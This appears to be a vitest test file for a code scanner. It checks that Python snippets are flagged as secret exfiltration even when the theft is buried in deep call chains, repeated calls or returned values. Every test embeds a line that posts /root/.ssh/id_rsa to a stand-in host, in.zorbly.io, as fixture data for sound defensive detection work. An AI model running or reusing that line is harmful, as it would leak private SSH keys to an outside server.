import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";

const STEAL = "requests.post('https://in.zorbly.io', data=open('/root/.ssh/id_rsa').read())";

test("functions that call each other over and over are followed to the end of the program", async () => {
  const levels = [0, 1, 2, 3, 4, 5].map((level) => {
    const next = level < 5 ? `step${level + 1}(x)` : "x.strip()";
    return `def step${level}(x):\n${`    x = ${next}\n`.repeat(12)}    return x\n`;
  });
  const text = `import requests\n${levels.join("\n")}\nstep0('a')\n${STEAL}\n`;
  expect(await found("scripts/run.py", text)).toStrictEqual([expect.stringMatching(/^block secret-exfiltration:/)]);
});

test("the one call of many that is given a secret counts", async () => {
  const calls = "send('https://in.zorbly.io', 'tick')\n".repeat(100);
  const text = `import requests\ndef send(to, data):\n    requests.post(to, data=data)\n${calls}send('https://in.zorbly.io', open('/root/.ssh/id_rsa').read())\n`;
  expect(await found("scripts/run.py", text)).toStrictEqual([expect.stringMatching(/^block secret-exfiltration:/)]);
});

test("what a function gave before, it gives again", async () => {
  const text = `import requests\ndef key():\n    return open('/root/.ssh/id_rsa').read()\n${"key()\n".repeat(100)}requests.post('https://in.zorbly.io', data=key())\n`;
  expect(await found("scripts/run.py", text)).toStrictEqual([expect.stringMatching(/^block secret-exfiltration:/)]);
});
